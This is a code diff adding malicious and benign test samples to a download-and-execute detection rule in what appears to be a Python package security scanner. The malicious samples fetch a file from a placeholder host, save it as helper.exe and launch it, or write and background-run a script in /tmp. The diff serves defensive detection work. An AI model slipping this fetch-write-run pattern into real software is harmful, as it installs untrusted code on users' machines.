@@ -8,6 +8,7 @@ from wheelmark.scan.facts import Act, Facts
 from wheelmark.scan.report import Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import graded, told
+from wheelmark.scan.samples import Sample, Samples
 from wheelmark.scan.values import Taint
 
 
@@ -32,4 +33,40 @@ RULE = Rule(
     message="A file is downloaded or decoded, written to disk and started.",
     reference="https://attack.mitre.org/techniques/T1204/002/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import os
+                import subprocess
+
+                import requests
+
+                _target = os.path.join(os.getenv("TEMP", "."), "helper.exe")
+                with open(_target, "wb") as file:
+                    file.write(requests.get("https://files.example.invalid/helper").content)
+                subprocess.Popen([_target])
+            """),
+            Sample.imported("""
+                import os
+
+                with open("/tmp/widget.py", "w") as file:
+                    file.write("print(1)")
+                os.system("python3 /tmp/widget.py &")
+            """),
+        ),
+        benign=(
+            Sample.imported("""
+                import subprocess
+                import urllib.request
+
+
+                def fetch_table(path="table.csv"):
+                    urllib.request.urlretrieve("https://data.example.invalid/table.csv", path)
+
+
+                def show_log():
+                    subprocess.run(["git", "log", "-1"], check=True)
+            """),
+        ),
+    ),
 )
